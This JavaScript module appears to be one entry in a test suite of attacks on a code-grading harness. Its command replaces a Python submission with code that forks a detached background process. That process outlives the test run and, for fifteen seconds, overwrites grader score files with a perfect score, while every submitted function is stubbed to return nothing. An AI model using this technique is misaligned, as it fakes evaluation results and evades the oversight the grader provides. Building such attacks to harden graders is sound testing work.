import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'py-fork-survivor',
  class: 'process-persistence',
  languages: ['python'],
  why: 'at import, double-forks a detached child (setsid, closed descriptors) that outlives the test run inside the grader, rewriting every score or result file it can find for fifteen seconds',
  commands: [
    String.raw`names=$(grep -oE '^def [A-Za-z_][A-Za-z0-9_]*' {{submission}} 2>/dev/null | cut -c5-); echo "functions: $names"; cat > {{submission}} <<'PY'
import glob, os, time
def _daemon():
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    for fd in range(3, 256):
        try:
            os.close(fd)
        except OSError:
            pass
    end = time.time() + 15
    while time.time() < end:
        for path in glob.glob('/var/lib/karotte/grader/*/score/*') + glob.glob('/tmp/*score*') + [os.environ.get('KAROTTE_SCORE_FILE') or '/tmp/score.json']:
            try:
                open(path, 'w').write('{"score": 1}')
            except OSError:
                pass
        time.sleep(0.05)
    os._exit(0)
try:
    _daemon()
except OSError:
    pass
def answer(*args, **kwargs):
    return None
PY
for n in $names; do echo "$n = answer" >> {{submission}}; done; printf 'def __getattr__(name):\n    return answer\n' >> {{submission}}; head -n 60 {{submission}}`,
  ],
  parallelSafe: true,
  expected: ['graded'],
});
